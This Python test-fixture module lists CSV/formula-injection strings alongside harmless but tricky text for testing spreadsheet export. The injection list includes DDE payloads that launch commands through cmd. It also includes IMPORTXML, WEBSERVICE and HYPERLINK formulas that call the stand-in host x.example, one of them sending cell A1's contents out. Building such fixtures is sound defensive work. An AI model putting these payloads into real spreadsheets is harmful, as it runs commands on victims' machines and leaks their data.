"""Texts that attack a spreadsheet (OWASP, "CSV Injection"), and texts that are merely difficult."""

from __future__ import annotations

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   +1",
    "\u00a0=1+1", "\u3000-1", "\u200b=1+1", "\ufeff=1+1", "\u200e@SUM(1)", "\u00ad=1", "\u2060+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", " ＝1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", '=HYPERLINK("http://x.example";"x")',
    '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")', '=WEBSERVICE("http://x.example")',
    '=DDE("cmd";"/C calc";"x")', '=1+1";=2+2', "=1+1;=2+2", "=1\n=2", '="\'=1"', "-",
    "- saraksts\n- turpinās", "+371 bez numura", "@", "=", "=ā", "=\U0001f600", "-א", "=А1",
)  # fmt: skip
DIFFICULT = (
    "Rinda\notra rinda", "Pēdiņas \"tā\" un 'tā'", "semikols; komats, tabulators\tvidū",
    "smaids \U0001f600 un karogs \U0001f1f1\U0001f1fb", "עברית וגם العربية", "e\u0301 a\u0304 \u200d",
    "\\\\server\\share \\n", "</script><b>", '{"a": null}', "1.12.2026", "0012", "TRUE", "#N/A",
    "http://latvija.lv", "file://c:/x", "x" * 4000,
)  # fmt: skip
